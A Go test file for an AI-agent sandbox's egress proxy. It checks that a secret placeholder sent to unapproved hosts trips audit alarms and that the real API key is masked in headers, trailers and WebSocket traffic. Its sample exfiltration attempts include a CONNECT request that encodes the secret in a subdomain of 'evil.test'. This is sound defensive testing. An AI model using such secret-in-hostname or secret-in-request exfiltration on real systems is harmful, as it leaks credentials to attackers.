package egress

import (
	"bufio"
	"crypto/tls"
	"crypto/x509"
	"io"
	"net/http"
	"slices"
	"strings"
	"testing"

	"agentbox/internal/audit"
	"agentbox/profile"
)

// What a placeholder is of no use for is on the record, and so is who looked for one.
func TestTripwires(t *testing.T) {
	p := keyed("api.test")
	p.Network.Rules = []profile.NetworkRule{{Host: "other.test", Methods: []string{"GET", "POST"}}}
	b := serveRead(t, p, &seen{})
	c := b.browser()
	post := func(url, body string) {
		r, err := c.Post(url, "text/plain", strings.NewReader(body))
		read(t, r, err)
	}
	post("https://api.test/", "its own host may have "+placeholder)
	if got := events[*audit.NetworkTripwire](b); len(got) != 0 {
		t.Fatalf("%+v", got[0])
	}
	post("https://other.test/", "another may not have "+placeholder)
	r, err := c.Get("https://other.test/?x=" + placeholder)
	read(t, r, err)
	say(t, b.toProxy(), "CONNECT "+strings.ToLower(placeholder)+".evil.test:443 HTTP/1.1\r\n\r\n")
	var got []string
	for _, e := range events[*audit.NetworkTripwire](b) {
		got = append(got, string(e.Where))
	}
	if !slices.Equal(slices.Compact(got), []string{"body", "head", "name"}) {
		t.Errorf("%v", got)
	}
}

// An error of the upstream's tells nothing of the secret.
func TestAnUpstreamThatFailsTellsNothing(t *testing.T) {
	b := serveRead(t, keyed("api.test"), http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("X-Echo", r.Header.Get("X-Api-Key"))
		w.WriteHeader(http.StatusEarlyHints)
		w.Header().Set("Trailer", "X-Late")
		io.WriteString(w, "partly")
		w.Header().Set("X-Late", r.Header.Get("X-Api-Key"))
		if r.URL.Path == "/broken" {
			_ = http.NewResponseController(w).Flush()
			panic(http.ErrAbortHandler)
		}
	}))
	c := b.browser()
	r, err := c.Get("https://api.test/")
	read(t, r, err)
	if stars := strings.Repeat("*", len(realKey)); r.Header.Get("X-Echo") != stars || r.Trailer.Get("X-Late") != stars {
		t.Errorf("%v %v", r.Header, r.Trailer)
	}
	if r, err := c.Get("https://api.test/broken"); err == nil {
		if _, err := io.ReadAll(r.Body); err == nil {
			t.Error("a response that broke off looks whole")
		}
	}
	b.roots = nil
	other := serveRead(t, keyed("api.test"), &seen{}, func(o *Options) { o.Roots = x509.NewCertPool() })
	r, err = other.browser().Get("https://api.test/")
	if body := read(t, r, err); r.StatusCode != http.StatusBadGateway || !strings.Contains(body, "unknown authority") {
		t.Errorf("%d %s", r.StatusCode, body)
	}
}

// WebSockets pass, with the secret in their handshake and without it in what comes back.
func TestAnUpgradeIsLookedAtToo(t *testing.T) {
	got := make(chan string, 1)
	b := serveRead(t, keyed("api.test"), http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		got <- r.Header.Get("X-Api-Key") + r.Header.Get("Sec-Websocket-Extensions")
		c, both, err := http.NewResponseController(w).Hijack()
		if err != nil {
			t.Error(err)
			return
		}
		defer c.Close()
		io.WriteString(c, "HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n"+realKey+"\n")
		line, _ := both.ReadString('\n')
		io.WriteString(c, line)
	}))
	c := tls.Client(b.captured("api.test", 443), &tls.Config{RootCAs: b.trust, ServerName: "api.test", NextProtos: []string{"http/1.1"}})
	io.WriteString(c, "GET / HTTP/1.1\r\nHost: api.test\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Extensions: permessage-deflate\r\n\r\n")
	r := bufio.NewReader(c)
	response, err := http.ReadResponse(r, nil)
	if err != nil || response.StatusCode != http.StatusSwitchingProtocols {
		t.Fatal(response, err)
	}
	line, err := r.ReadString('\n')
	if strings.Contains(line, realKey) || err != nil {
		t.Errorf("%q %v", line, err)
	}
	io.WriteString(c, "ping\n")
	if line, err := r.ReadString('\n'); line != "ping\n" {
		t.Errorf("%q %v", line, err)
	}
	if key := <-got; key != realKey {
		t.Errorf("%q", key)
	}
}
